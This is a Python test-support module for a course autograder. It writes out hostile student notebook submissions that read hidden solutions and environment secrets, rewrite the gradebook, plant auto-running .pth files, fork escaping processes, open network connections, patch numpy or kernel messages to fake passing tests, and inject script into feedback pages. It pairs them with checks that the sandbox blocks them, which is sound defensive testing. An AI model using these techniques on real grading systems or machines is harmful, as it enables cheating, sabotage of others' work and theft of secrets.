"""Hostile submissions of the first exercise, written the way a student who wants to cheat (or to make a classmate
fail) would write them, and the checks that tell whether an attack worked.

Each attack knows the course's real paths (:class:`Target`): the strongest student has read the course's repository
and guesses where the instructor keeps it. Each is graded in a class with an honest student (``honest``, the full
solution) through the real workflow (``python -m grading grade``). An attack that writes only tries to create new
files with a name of its own (``zz_nn_attack_<token>``), so that a broken sandbox leaves something to find and
nothing of the machine is damaged.

The checks return a list of problems (empty: the attack failed); tests/grading/test_grading_attacks.py asserts
that they are empty with the sandbox, and that the canary's are not without it.
"""

import json
import secrets
import socket
import sysconfig
import threading
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from grading_cases import ROOT, meta

from grading import leaks  # noqa: E402

HONEST = "honest"


@dataclass
class Target:
    """What the attacker aims at: the course copy being graded, the environment, a listener, secrets to steal."""

    course: Path
    exercise: str
    token: str = field(default_factory=lambda: secrets.token_hex(6))
    secret: str = field(default_factory=lambda: "instructor-" + secrets.token_hex(8))
    port: int = 0
    #: The instructor's files of the course copy as they were before grading (compared after it).
    baseline: dict = field(default_factory=dict)

    def __post_init__(self):
        self.baseline = {path: path.read_bytes() for path in self.watched() if path.is_file()}

    def watched(self):
        return [self.solution, self.course / "nbgrader_config.py", *sorted((self.course / "grading").rglob("*.py"))]

    @property
    def solution(self):
        return self.course / "solutions" / self.exercise / f"{self.exercise}.ipynb"

    @property
    def gradebook(self):
        return self.course / "gradebook.db"

    @property
    def marker(self):
        """The name every file an attack tries to create starts with."""
        return f"zz_nn_attack_{self.token}"

    def planted(self):
        """Where the attacks try to leave files: the environment, nnlib, the instructor's home, the course."""
        site = Path(sysconfig.get_paths()["purelib"])
        import nnlib

        return [site / f"{self.marker}.pth", Path(nnlib.__file__).parent / f"{self.marker}.py",
                Path.home() / self.marker, self.course / self.marker]


def _cells(*sources):
    return [nbformat.v4.new_code_cell(source) for source in sources]


def _insert_after_imports(nb, cells):
    at = next(i for i, cell in enumerate(nb.cells) if meta(cell).get("grade_id") == "imports") + 1
    nb.cells[at:at] = cells
    return nb


def _answer(nb, answers):
    for cell in nb.cells:
        if meta(cell).get("grade_id") in answers:
            cell.source = answers[meta(cell)["grade_id"]]
    return nb


# ---- the attacks: {student: (notebook, expected score, kinds it must be listed as)} ---------------------------

def attacks(ex, t):
    """Every attack on exercise ``ex`` (tests/grading_cases.Exercise) against the target ``t``."""
    full = ex.test_points
    q = repr
    sol, gb, csv = q(str(t.solution)), q(str(t.gradebook)), q(str(t.course / "grades" / "grades.csv"))
    planted = [str(path) for path in t.planted()]
    honest_nb = q(str(t.course / "submitted" / HONEST / ex.name / f"{ex.name}.ipynb"))
    honest_graded = q(str(t.course / "autograded" / HONEST / ex.name / f"{ex.name}.ipynb"))
    honest_page = q(str(t.course / "feedback" / HONEST / ex.name / f"{ex.name}.html"))
    config = q(str(t.course / "nbgrader_config.py"))
    blank, solved = ex.blank, ex.answered
    cases = {
        # Read the hidden tests and the solutions, into my own output (and so into my feedback).
        "reads_solutions": (_insert_after_imports(blank(), _cells(
            f"print(open({sol}).read())",
            f"import sqlite3\nprint(sqlite3.connect('file:' + {gb} + '?mode=ro', uri=True)"
            ".execute('SELECT source FROM source_cell').fetchall())",
            f"print(open('/proc/1/root' + {sol}).read())",
        )), 0.0, {"error outside tests"}),
        # Give myself full marks and my classmate none, in the gradebook and in the exported grades.
        "rewrites_gradebook": (_insert_after_imports(blank(), _cells(
            f"import sqlite3\ndb = sqlite3.connect({gb})\ndb.execute('UPDATE grade SET auto_score = 0, "
            "manual_score = 0')\ndb.commit()",
            f"open({csv}, 'w').write('assignment,student_id,score\\n')",
        )), 0.0, {"error outside tests"}),
        # Make my classmate fail: overwrite their submitted and graded notebooks and their feedback.
        "overwrites_classmate": (_insert_after_imports(blank(), _cells(
            f"import json\nopen({honest_nb}, 'w').write(json.dumps({{'cells': []}}))",
            f"open({honest_graded}, 'w').write('{{}}')",
            f"open({honest_page}, 'w').write('<h1>{t.marker}</h1>')",
        )), 0.0, {"error outside tests"}),
        # Change the tests: in solutions/, in the gradebook, and in the configuration every later run reads.
        "changes_tests": (_insert_after_imports(blank(), _cells(
            f"import json\nnb = json.load(open({sol}))\nfor c in nb['cells']:\n    c['source'] = 'pass'\n"
            f"json.dump(nb, open({sol}, 'w'))",
            f"import sqlite3\ndb = sqlite3.connect({gb})\ndb.execute(\"UPDATE source_cell SET source = 'pass'\")\n"
            "db.commit()",
            f"open({config}, 'a').write('\\nc.Autograde.autograde_preprocessors = []\\n')",
        )), 0.0, {"error outside tests"}),
        # Poison what every later run uses: a .pth file in the environment, a module in nnlib, my home, the course.
        "poisons_environment": (_insert_after_imports(solved(), _cells(*[
            f"open({path!r}, 'w').write('import os; os.system(\"touch /tmp/{t.marker}\")\\n')" for path in planted
        ])), full, {"blocked by the sandbox"}),
        # Leave a process behind that rewrites the grades once grading is over.
        "escapes": (_insert_after_imports(solved(), _cells(
            "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            f"        os.execv('/bin/sh', ['/bin/sh', '-c', 'echo $$ > {t.course}/{t.marker}; sleep 300; "
            f"echo x > {t.course}/grades/grades.csv # {t.marker}'])\n    os._exit(0)",
        )), full, {"processes left running"}),
        # Read the instructor's environment (a secret in it), the first process's, and the instructor's home.
        "reads_environment": (_insert_after_imports(blank(), _cells(
            "import os\nprint(dict(os.environ))",
            "print(open('/proc/1/environ').read())",
            f"import os\nprint(os.listdir({str(Path.home())!r}))",
        )), 0.0, {"error outside tests"}),
        # Phone home: to a listener on the instructor's machine, and to the internet.
        "network": (_insert_after_imports(solved(), _cells(
            f"import socket\nsocket.create_connection(('127.0.0.1', {t.port}), timeout=5).sendall(b'{t.token}')",
            "import socket\nsocket.create_connection(('93.184.215.14', 80), timeout=5)",
        )), full, {"blocked by the sandbox"}),
        # Take the machine: 8 GiB of memory, a 2 GiB file, a full /tmp, 200 processes.
        "hogs_resources": (_insert_after_imports(solved(), _cells(
            "hog = bytearray(8 << 30)",
            "with open('big.bin', 'wb') as f:\n    for _ in range(128):\n        f.write(b'x' * (16 << 20))",
            "for i in range(40):\n    with open(f'/tmp/fill{i}', 'wb') as f:\n        f.write(b'x' * (8 << 20))",
            f"import subprocess\nchildren = [subprocess.Popen(['/bin/sh', '-c', 'sleep 60 # {t.marker}']) "
            "for _ in range(200)]",
        )), full, {"memory limit", "file size limit", "disk limit", "process limit"}),
        # Full marks without the work: make every test cell do nothing, or every comparison say yes. (The tests no
        # longer run in the kernel, so none of this reaches a verdict: these score what the blank answers earn.)
        "tampers_transformer": (_insert_after_imports(blank(), _cells(
            "def no_tests(lines):\n    return ['pass\\n'] if any('assert' in line for line in lines) else lines\n\n\n"
            "get_ipython().input_transformers_cleanup.append(no_tests)\n"
            "get_ipython().events.register('post_run_cell', lambda result: None)",
        )), 0.0, set()),
        "tampers_numpy": (_answer(_insert_after_imports(blank(), _cells(
            "import builtins\nimport numpy\nfor name in ('allclose', 'array_equal', 'isclose'):\n"
            "    setattr(numpy, name, lambda *args, **kwargs: True)\nbuiltins.any = lambda iterable: False",
            # patch NumPy's implementation code itself, not only its names
            "import numpy\nfor f in (numpy.allclose, numpy.array_equal, numpy.isclose):\n"
            "    f.__code__ = (lambda *args, **kwargs: True).__code__",
        )), {"update_answer": "def perceptron_update(weights, bias, x, target, learning_rate):\n"
                              "    return weights, bias"}), 0.0, set()),
        # The same from inside an answer: the tests call it, and it makes their comparisons say yes.
        "tampers_during_test": (_answer(blank(), {
            "update_answer": "def perceptron_update(weights, bias, x, target, learning_rate):\n"
                             "    import numpy\n    numpy.allclose = lambda *args, **kwargs: True\n"
                             "    numpy.isclose = lambda *args, **kwargs: True\n    return weights, bias"}),
            0.0, set()),
        # Drop every error the kernel reports, and say "ok" instead: nbgrader scores a test by the absence of one.
        "drops_errors": (_insert_after_imports(blank(), _cells(
            "kernel = get_ipython().kernel\nsend = kernel.session.send\n\n\n"
            "def quiet(stream, msg_or_type, content=None, *args, **kwargs):\n"
            "    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get('msg_type')\n"
            "    if kind == 'error':\n        return None\n"
            "    if isinstance(content, dict) and content.get('status') == 'error':\n"
            "        content = {'status': 'ok', 'execution_count': content.get('execution_count'), "
            "'user_expressions': {}, 'payload': []}\n"
            "    return send(stream, msg_or_type, content, *args, **kwargs)\n\n\n"
            "kernel.session.send = quiet",
            "import sys\nsys.displayhook = lambda value: print('All tests passed')\n"
            "get_ipython().events.register('post_run_cell', lambda result: print('ok'))",
        )), 0.0, set()),
        # Answers whose results say yes to every comparison (an ndarray subclass, the NumPy protocols).
        "always_equal": (_answer(blank(), {
            "step_answer": "import numpy as np\n\n\nclass Yes(np.ndarray):\n"
                           "    def __eq__(self, other):\n        return True\n    __ne__ = lambda self, o: False\n"
                           "    def __array_function__(self, func, types, args, kwargs):\n        return True\n"
                           "    def __array_ufunc__(self, *args, **kwargs):\n        return True\n\n\n"
                           "def step(z):\n    return np.zeros(np.shape(z)).view(Yes)",
            "update_answer": "class Anything:\n    def __eq__(self, other):\n        return True\n"
                             "    def __array__(self, *a, **k):\n        import numpy\n"
                             "        return numpy.array([-0.5, -1.0])\n    def __float__(self):\n        return -0.5\n"
                             "    def __iter__(self):\n        return iter([Anything(), Anything()])\n\n\n"
                             "def perceptron_update(weights, bias, x, target, learning_rate):\n"
                             "    return Anything()",
        }), 0.0, set()),
        # Replace the grader's side in the kernel: answer every request "yes", then with hostile payloads (an
        # object array that unpickles, a bomb of nesting, references to objects that do not exist).
        "fakes_judge": (_answer(_insert_after_imports(blank(), _cells(
            "import sys, json, base64, io, pickle\nimport numpy as np\nbuf = io.BytesIO()\n"
            f"np.save(buf, np.array([open, 'touch /tmp/{t.marker}'], dtype=object), allow_pickle=True)\n"
            "evil = {'t': 'ndarray', 'v': base64.b64encode(buf.getvalue()).decode()}\n"
            "deep = 1\nfor _ in range(5000):\n    deep = {'t': 'list', 'v': [deep]}\n"
            "answers = [True, evil, deep, {'t': 'ref', 'id': 10 ** 9, 'type': {'name': 'x', 'qualname': 'x', "
            "'module': 'x'}}, {'t': 'float', 'v': '__import__(\"os\")'}, [0, 0, 1, 1, 1]]\n"
            "count = [0]\n\n\ndef serve(text):\n    count[0] += 1\n"
            "    answer = {'ok': answers[count[0] % len(answers)], 'writeback': {'args': {'0': evil}}}\n"
            "    get_ipython().display_pub.publish(data={'application/x.nn-judge+json': answer}, metadata={})\n\n\n"
            "for name in list(sys.modules):\n    if name.startswith('_nn'):\n        sys.modules[name].serve = serve",
        )), {}), 0.0, set()),
        # Swap the answers while a call runs: a trace function that rewrites what every function returns.
        "traces_calls": (_insert_after_imports(blank(), _cells(
            "import sys, threading\n\n\ndef tracer(frame, event, arg):\n"
            "    if event == 'return' and frame.f_code.co_name in ('step', 'perceptron_update', 'pocket'):\n"
            "        frame.f_locals['__return__'] = True\n    return tracer\n\n\n"
            "sys.settrace(tracer)\nthreading.settrace(tracer)",
        )), 0.0, set()),
        # Read the hidden tests: IPython's history, notebooks in the working folder and home, the caller's frames.
        "reads_hidden_tests": (_answer(_insert_after_imports(blank(), _cells(
            "import glob, os\nfor path in glob.glob('**/*.ipynb', recursive=True) + glob.glob(os.path.expanduser("
            "'~/**/*.ipynb'), recursive=True) + glob.glob('/submission/**/*', recursive=True):\n"
            "    print(path, open(path).read() if os.path.isfile(path) else '')",
        )), {"step_answer": "import inspect\nseen = []\n\n\ndef step(z):\n"
                            "    for frame in inspect.stack():\n"
                            "        seen.append(str(frame.code_context) + repr(frame.frame.f_locals)[:5000])\n"
                            "    seen.append('\\n'.join(get_ipython().history_manager.input_hist_raw))\n"
                            "    raise ValueError('\\n'.join(seen)[-20000:])",
             "update_answer": "def perceptron_update(weights, bias, x, target, learning_rate):\n"
                              "    print('\\n'.join(seen))\n"
                              "    raise ValueError('\\n'.join(seen)[-20000:])"}), 0.0, set()),
        # Hand in nnlib's own versions, under any name: an alias, a call, nnlib's source re-compiled.
        "answer_key_alias": (_answer(solved(), {
            "step_answer": "import nnlib\nstep = nnlib.step",
            "update_answer": "import nnlib.activations, nnlib.perceptron\n"
                             "source = open(nnlib.perceptron.__file__).read()\nspace = {}\n"
                             "exec(compile(source, nnlib.perceptron.__file__, 'exec'), space)\n"
                             "perceptron_update = space['perceptron_update']",
        }), 0.0, {"called the answer key"}),
        "answer_key": (_answer(solved(), {
            "step_answer": "from nnlib import step as nnlib_step\n\n\ndef step(z):\n    return nnlib_step(z)",
            "update_answer": "import nnlib\n\n\ndef perceptron_update(weights, bias, x, target, learning_rate):\n"
                             "    return nnlib.perceptron_update(weights, bias, x, target, learning_rate)",
            "train_answer": "X, y = truth_table('and')\nmodel = __import__('nnlib').Perceptron(learning_rate=1.0, "
                            "max_iter=20).fit(X, y)\nweights, bias = model.coef_, float(model.intercept_)\n"
                            "errors_per_epoch = list(model.errors_)",
        }), 0.0, {"called the answer key"}),
        # Namespace tricks: a user namespace of my own, the first process's root, root's rights, the host's mounts.
        "namespace_tricks": (_insert_after_imports(blank(), _cells(
            f"import subprocess\nprint(subprocess.run(['unshare', '-r', '-m', '--', 'cat', '/proc/1/root' + {sol}],"
            " capture_output=True, text=True, check=True).stdout)",
            "import os\nos.setuid(0)",
            f"import subprocess\nprint(subprocess.run(['nsenter', '-t', '1', '-m', '--', 'cat', {sol}], "
            "capture_output=True, text=True, check=True).stdout)",
        )), 0.0, {"error outside tests", "blocked by the sandbox"}),
        # Script in the output, to run in the feedback page (and in Formgrader).
        "script_output": (_answer(_insert_after_imports(solved(), _cells(
            "from IPython.display import HTML, SVG, Javascript, display\n"
            f"display(HTML('<b>hello</b><script>window.nn_attack = \"{t.token}\"; document.title = \"{t.token}\""
            f"</script><img src=\"x\" onerror=\"window.nn_attack = \\'{t.token}\\'\">'))\n"
            f"display(Javascript('window.nn_attack = \"{t.token}\"'))\n"
            f"display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.nn_attack = 1\">"
            "<script>window.nn_attack = 2</script></svg>'))",
        )), {"xor_answer": f"A line cannot split XOR.<script>window.nn_attack = '{t.token}'</script>"
                           f"<img src=\"x\" onerror=\"window.nn_attack = '{t.token}'\">"}), full,
            {"script in output"}),
    }
    return cases


#: The attacks a canary runs without the sandbox: those whose effect stays in the copy of the course, the
#: attacker's own outputs and a process the test kills itself.
CANARY = ("reads_solutions", "reads_environment", "network", "escapes")


# ---- a listener on the instructor's machine ---------------------------------------------------------------------

class Listener:
    """A TCP server on 127.0.0.1 that records what connects to it (the network attack's target)."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port, self.received, self.running = self.server.getsockname()[1], [], True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(2)
                try:
                    self.received.append(connection.recv(100))
                except OSError:
                    self.received.append(b"")

    def close(self):
        self.running = False
        self.thread.join(timeout=5)
        self.server.close()


# ---- did it work? -------------------------------------------------------------------------------------------------

def student_texts(course, exercise, student):
    """What of a student's grading comes from their own code or goes back to them: the outputs in the autograded
    notebook (its cells are the instructor's master copies, hidden tests included) and the feedback page."""
    texts = {}
    graded = course / "autograded" / student / exercise / f"{exercise}.ipynb"
    if graded.is_file():
        parts = []
        for cell in nbformat.read(graded, as_version=4).cells:
            for output in cell.get("outputs", []):
                # (not the tracebacks: they quote the master copy of a failing test, which the feedback cuts)
                parts += [output.get("text", ""), output.get("evalue", "")]
                parts += [v if isinstance(v, str) else json.dumps(v) for v in output.get("data", {}).values()]
        texts["outputs of the autograded notebook"] = "\n".join(parts)
    page = course / "feedback" / student / exercise / f"{exercise}.html"
    if page.is_file():
        texts["feedback page"] = leaks.readable_text(page)
    return texts


def leaked(course, exercise, student):
    source = nbformat.read(ROOT / "solutions" / exercise / f"{exercise}.ipynb", as_version=4)
    hidden = leaks.hidden_test_lines(source) | set(leaks.MARKERS)
    return [f"{student} could read {line!r} in the {where}" for where, text in student_texts(course, exercise, student)
            .items() for line in sorted(hidden) if line in leaks.normalise(text)]


def shows(course, exercise, student, needle):
    return [f"{student}'s {where} shows {needle!r}" for where, text in student_texts(course, exercise, student).items()
            if needle in text]


def surviving_processes(target):
    """Processes an attack left (its marker in their command line) or grading left (the course in it)."""
    import psutil

    pid_file = target.course / target.marker  # where an escaped process of the escape attack writes its pid
    escaped = pid_file.read_text().strip() if pid_file.is_file() else None
    found = []
    for process in psutil.process_iter(["pid", "cmdline"]):
        line = " ".join(process.info["cmdline"] or [])
        if target.marker in line or str(target.course) in line or str(process.info["pid"]) == escaped:
            found.append((process.info["pid"], line[:120]))
    return found


def instructor_side_changes(target):
    """What changed on the instructor's side: files planted, the course's code, configuration and solutions."""
    problems = [f"{path} was created" for path in target.planted() if path.exists()]
    problems += [f"{path} was created" for path in [Path("/tmp") / target.marker] if path.exists()]
    # against the copy's own snapshot, not the live checkout (which someone may be editing during the run)
    now = {path: path.read_bytes() for path in target.watched() if path.is_file()}
    problems += [f"{path} changed" for path in sorted(set(now) | set(target.baseline))
                 if now.get(path) != target.baseline.get(path)]
    return problems


def remove_planted(target):
    """Take away whatever a broken sandbox let an attack leave (by name: only this run's marker)."""
    for path in target.planted() + [Path("/tmp") / target.marker]:
        if path.is_file():
            path.unlink()


def read_records(course):
    return {p.stem: json.loads(p.read_text()) for p in sorted((course / "grades" / "records").glob("*/*.json"))}
